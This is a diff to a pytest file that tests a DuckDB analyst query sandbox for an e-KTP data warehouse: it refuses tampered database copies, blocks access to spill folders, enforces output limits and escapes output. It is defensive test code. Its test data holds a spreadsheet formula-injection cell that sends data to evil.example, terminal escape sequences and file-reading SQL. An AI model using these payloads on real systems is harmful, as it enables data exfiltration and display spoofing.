@@ -154,7 +154,8 @@ def test_the_sandbox_runs_with_the_memory_thread_and_time_limits_of_the_settings
     assert "query failed" in _one_line(capsys)
     monkeypatch.setenv("EKTP_QUERY_TIMEOUT", "1")
     assert main(["query", "--data-dir", str(published.data_dir),
-                 "select count(*) from range(100000000) a, range(100000000) b"]) == 1      # a runaway cross join
+                 "select count(*) from range(100000000) a, range(10000) b"]) == 1   # a runaway cross join (its small
+    # side fits in memory: with no spill folder a join that needs more fails at the memory limit instead)
     assert "query stopped after 1 s" in _one_line(capsys)
 
 
@@ -807,7 +808,7 @@ def test_a_contained_failure_crosses_a_process_boundary_with_its_fixed_text():
     assert str(again).startswith("stage prepare-batch failed with ConversionException")
 
 
-# --- 16. Prefect credentials, run dates, no `force` from the UI, private Dask scratch ----------------------
+# --- 13. Prefect credentials, run dates, no `force` from the UI, private Dask scratch ----------------------
 
 @pytest.mark.slow
 def test_a_request_without_credentials_to_the_operators_prefect_server_is_refused_401(served):
@@ -990,7 +991,7 @@ def test_force_stays_an_option_of_the_command_line_backfill(prefect_api, tmp_pat
     assert flows == ["backfill"] * 3
 
 
-# --- 13. issue 16: what people type, bounded reads, keyed identities, strong keys, the v2 -> v3 upgrade ------
+# --- 14. issue 16: what people type, bounded reads, keyed identities, strong keys, the v2 -> v3 upgrade ------
 
 NIK_TEXT = "1609015205900001"
 
@@ -1248,3 +1249,189 @@ def test_a_log_dated_before_2011_that_version_2_loaded_becomes_a_reject_by_the_u
         assert upgrade_v3(con, KEY.encode(), "again") == {}                    # once only
     finally:
         con.close()
+
+
+# --- 15. the analyst sandbox, second review (issue 16): what the copy is, spill folders, output ----------
+
+def _person_ids(landing: Landing) -> list[str]:
+    ids = [p for (p,) in landing.query("select distinct person_id from landing.rekam")]
+    assert ids and all(len(p) >= 16 for p in ids)
+    return ids
+
+
+def _data_dir_with_copy(tmp_path: Path, make) -> Path:
+    """A data directory X whose X/warehouse/ektp_analyst.duckdb is made by make(path)."""
+    (tmp_path / "x" / "warehouse").mkdir(parents=True)
+    make(tmp_path / "x" / "warehouse" / "ektp_analyst.duckdb")
+    return tmp_path / "x"
+
+
+@pytest.mark.parametrize("target", ["writers_file", "analysts_copy"])
+def test_a_data_directory_whose_copy_is_a_symlink_is_refused_before_any_sql(published, tmp_path, capsys, target):
+    source = published.warehouse if target == "writers_file" else published.published
+    data = _data_dir_with_copy(tmp_path, lambda p: p.symlink_to(source))
+    capsys.readouterr()
+    assert main(["query", "--data-dir", str(data), "select * from landing.rekam"]) == 1
+    err = _one_line(capsys)
+    out = capsys.readouterr().out
+    assert "is a symbolic link" in err, err
+    assert out == "" and not any(p in err for p in _person_ids(published))
+
+
+def test_a_data_directory_holding_a_copy_of_the_writers_file_is_refused_by_its_catalog(published, tmp_path, capsys):
+    import shutil
+
+    data = _data_dir_with_copy(tmp_path, lambda p: shutil.copyfile(published.warehouse, p))
+    capsys.readouterr()
+    assert main(["query", "--data-dir", str(data), "--format", "csv", "select * from landing.rekam"]) == 1
+    err = _one_line(capsys)
+    assert "a row per person or per recording (audit.quarantine, core.first_recording, core.recording" in err, err
+    assert capsys.readouterr().out == "" and not any(p in err for p in _person_ids(published))
+
+
+PLANTED = {
+    "a_person_id_column_under_a_published_name": "create table mart.backlog as select 'p' as Person_ID",
+    "a_line_number_in_the_quarantine_summary": "create schema audit; create table audit.quarantine_summary as select 1 as line_number",
+    "a_table_outside_what_is_published": "create schema staging; create table staging.rekam as select 1 as n",
+    "a_view_in_the_main_schema": "create view recordings as select 1 as n",
+    "catalog_functions_shadowed_by_macros": """create schema landing; create table landing.rekam as select 'p' as person_id;
+        create macro duckdb_tables() as table select 1 as x; create macro duckdb_views() as table select 1 as x;
+        create macro duckdb_columns() as table select 1 as x""",
+}
+
+
+@pytest.mark.parametrize("planted", sorted(PLANTED))
+def test_a_copy_holding_a_relation_the_publisher_never_writes_is_refused(tmp_path, capsys, planted):
+    def make(path: Path) -> None:
+        con = duckdb.connect(str(path))
+        con.execute("create schema if not exists mart; create table mart.backlog_kecamatan as select 1 as n")
+        con.execute(PLANTED[planted])
+        con.close()
+
+    data = _data_dir_with_copy(tmp_path, make)
+    assert main(["query", "--data-dir", str(data), "select 42 as answer"]) == 1
+    assert "a row per person or per recording" in _one_line(capsys)
+    assert "42" not in capsys.readouterr().out
+
+
+def test_a_fifo_in_place_of_the_copy_is_refused_without_blocking(tmp_path, capsys):
+    data = _data_dir_with_copy(tmp_path, os.mkfifo)
+    with _deadline(20):
+        assert main(["query", "--data-dir", str(data), "select 1"]) == 1
+    assert "not a regular file" in _one_line(capsys)
+
+
+def _spill_folder(published: Landing) -> Path:
+    return published.published.with_name(published.published.name + ".tmp")
+
+
+@pytest.mark.parametrize("attack", ["copy_into_the_spill_folder", "glob_the_spill_folder", "read_a_spill_file"])
+def test_the_sandbox_cannot_write_to_or_list_a_spill_folder_next_to_the_copy(published, capsys, attack):
+    folder = _spill_folder(published)
+    folder.mkdir()
+    (folder / "duckdb_temp_storage_S32K-0.tmp").write_text("spilled rows\n")
+    sql = {"copy_into_the_spill_folder": f"copy (select * from mart.backlog) to '{folder}/x.csv'",
+           "glob_the_spill_folder": f"select * from glob('{folder}/*')",
+           "read_a_spill_file": f"select * from read_text('{folder}/duckdb_temp_storage_S32K-0.tmp')"}[attack]
+    try:
+        capsys.readouterr()
+        assert main(["query", "--data-dir", str(published.data_dir), sql]) == 1
+        assert _one_line(capsys).startswith("ektp: query failed: ")
+        out = capsys.readouterr().out
+        assert "duckdb_temp_storage" not in out and "spilled rows" not in out
+        assert sorted(p.name for p in folder.iterdir()) == ["duckdb_temp_storage_S32K-0.tmp"]
+    finally:
+        for p in folder.iterdir():
+            p.unlink()
+        folder.rmdir()
+
+
+def test_a_query_that_would_spill_fails_at_the_memory_limit_and_writes_nothing(published, capsys, monkeypatch):
+    before = sorted(os.listdir(published.published.parent))
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv",
+                 "select current_setting('temp_directory') as t, current_setting('allowed_directories')::varchar as a"]) == 0
+    assert capsys.readouterr().out.splitlines()[1:] == [",[]"]
+    monkeypatch.setenv("EKTP_QUERY_MEMORY", "100MB")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv",
+                 "select count(*) from (select range, random() as r from range(20000000) order by r)"]) == 1
+    err = _one_line(capsys)
+    assert err.startswith("ektp: query failed: Out of Memory Error"), err
+    assert capsys.readouterr().out == ""                    # no header left behind either
+    assert sorted(os.listdir(published.published.parent)) == before
+
+
+HOSTILE_CELLS = ("""select '=HYPERLINK("http://evil.example/?"||A1)' as f, '+1+1' as p, '-2+3' as m, '@SUM(A1)' as a,
+                 chr(9) || '=1' as t, chr(13) || '=1' as r, 'plain' as o, -5 as n, -2.5::double as d,
+                 '-5' as s, chr(27) || '[2J' || chr(7) || chr(8238) || chr(133) as e""")
+
+
+def test_csv_output_neutralises_formula_cells_but_keeps_negative_numbers(published, capsys):
+    import csv
+
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", HOSTILE_CELLS]) == 0
+    out = capsys.readouterr().out
+    [header, cells] = list(csv.reader(StringIO(out)))
+    got = dict(zip(header, cells))
+    assert got["f"] == """'=HYPERLINK("http://evil.example/?"||A1)""" and got["p"] == "'+1+1" and got["m"] == "'-2+3"
+    assert got["a"] == "'@SUM(A1)" and got["t"] == "'\\x09=1" and got["r"] == "'\\x0d=1" and got["o"] == "plain"
+    assert got["n"] == "-5" and got["d"] == "-2.5"          # numbers stay numbers
+    assert got["s"] == "'-5"                                # a text cell is text, whatever it looks like
+    assert got["e"] == "\\x1b[2J\\x07\\u202e\\x85"
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+def test_every_output_format_escapes_control_characters(published, capsys, fmt):
+    import unicodedata
+
+    sql = ("select chr(27) || ']8;;http://evil.example' || chr(7) || 'x' || chr(10) || chr(8238) as "
+           "\"h" + chr(27) + "[1m\", chr(13) || chr(0) || chr(133) as v")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt, sql]) == 0
+    out = capsys.readouterr().out
+    bad = [hex(ord(ch)) for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")]
+    assert bad == [], bad
+    assert "\\x1b]8;;http://evil.example\\x07x\\x0a\\u202e" in out.replace("\\\\", "\\")
+    if fmt == "json":
+        import json
+        assert json.loads(out)[0]["v"] == "\\x0d\\x00\\x85"
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+def test_a_fifty_megabyte_cell_is_cut_to_the_cell_limit_with_a_note(published, capsys, monkeypatch, fmt):
+    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "1000")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
+                 "select repeat('x', 50000000) as s, 7 as n"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.count("x") == 1000 and len(captured.out.encode()) < 6000, len(captured.out)   # table: a rule
+    assert captured.err == "ektp: output cut: 1 cell cut to 1,000 bytes (EKTP_QUERY_MAX_CELL_BYTES).\n"
+
+
+def test_the_output_stops_at_the_row_and_byte_limits_with_a_note(published, capsys, monkeypatch):
+    import json
+
+    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "5")
+    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", "select range from range(1000000)"]) == 0
+    captured = capsys.readouterr()
+    assert captured.out.split() == ["range", "0", "1", "2", "3", "4"]
+    assert captured.err == "ektp: output cut: only the first 5 rows (EKTP_QUERY_MAX_ROWS).\n"
+    monkeypatch.delenv("EKTP_QUERY_MAX_ROWS")
+    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "1000")
+    for fmt in ("csv", "json", "table"):
+        assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
+                     "select repeat('y', 90) as y from range(1000000)"]) == 0
+        captured = capsys.readouterr()
+        assert 800 < len(captured.out.encode()) <= 1000, (fmt, len(captured.out))
+        assert captured.err == "ektp: output cut: stopped at 1,000 bytes (EKTP_QUERY_MAX_OUTPUT_BYTES).\n", fmt
+        if fmt == "json":
+            assert len(json.loads(captured.out)) >= 5        # still a whole JSON document
+
+
+def test_the_output_limits_are_settings_read_from_the_environment(monkeypatch, tmp_path):
+    from flows.settings import load_settings
+
+    s = load_settings(tmp_path)
+    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (1_000_000, 10_000, 100_000_000)
+    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "10")
+    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "20")
+    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "30")
+    s = load_settings(tmp_path)
+    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (10, 20, 30)
